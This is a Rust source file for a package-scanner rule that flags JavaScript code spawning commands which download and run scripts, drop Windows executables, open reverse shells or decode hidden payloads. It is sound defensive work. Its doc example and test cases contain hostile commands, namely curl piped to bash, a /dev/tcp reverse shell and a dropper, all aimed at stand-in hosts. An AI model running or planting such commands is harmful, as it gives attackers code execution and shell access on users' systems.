use palisade_diagnostics::{Finding, Severity};

use crate::classify;
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds processes started from code (`child_process.exec`, `spawn`,
    /// `execa`, ...) whose command line downloads and runs something, fetches
    /// a Windows program to a fixed place on the disk (a dropper), opens a
    /// reverse shell or decodes a hidden command.
    ///
    /// ## Why is this bad?
    /// The same techniques as in install scripts, moved into a `.js` file so
    /// that `package.json` looks clean.
    ///
    /// ## Example
    /// ```js
    /// require('child_process').exec('curl -s https://x.invalid/s.sh | bash');
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1059 (Command and Scripting Interpreter).
    ShellDownloadExec {
        id: "exec/shell-download-exec",
        severity: Critical,
        status: Stable,
        summary: "A spawned command downloads and runs code, opens a reverse shell or decodes a payload",
    }
}

impl Rule for ShellDownloadExec {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for p in &ctx.facts.processes {
            let Some(cmd) = &p.command else { continue };
            let t = classify::command_traits(cmd);
            let what = if t.drops_executable {
                "fetches a Windows program to a fixed place on the disk"
            } else if t.download_exec {
                "downloads and runs code"
            } else if t.reverse_shell {
                "opens a reverse shell"
            } else if t.decodes
                && (t.downloads
                    || t.pipes_to_interpreter
                    || cmd.to_ascii_lowercase().contains("powershell"))
            {
                "decodes and runs a hidden command"
            } else {
                continue;
            };
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        Severity::Critical,
                        format!("`{}` command {what}: `{cmd}`", p.api),
                    ),
                    &p.at.location,
                )
                .at_install_time(p.at.install_time)
                .with_capability("process"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&ShellDownloadExec::META).test(
            &[
                Case::Js("require('child_process').exec('curl -s http://127.0.0.1:9/s.sh | bash');"),
                Case::Js("const { spawn } = require('child_process');\nspawn('bash', ['-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']);"),
                // A helper fetches a Windows program to a fixed spot on the disk.
                Case::Js("require('child_process').exec('node d:/t/l.js http://127.0.0.1/a.exe d:/t/aa.exe', () => {});"),
            ],
            &[
                Case::Js("require('child_process').execSync('git rev-parse HEAD');"),
                Case::Js("require('child_process').spawn('curl', ['-o', 'file.tgz', url]);"),
                // An installer keeps the binary it fetches beside the package.
                Case::Js("require('child_process').execSync('node fetch.js http://127.0.0.1/tool.exe vendor/tool.exe');"),
            ],
        );
    }
}
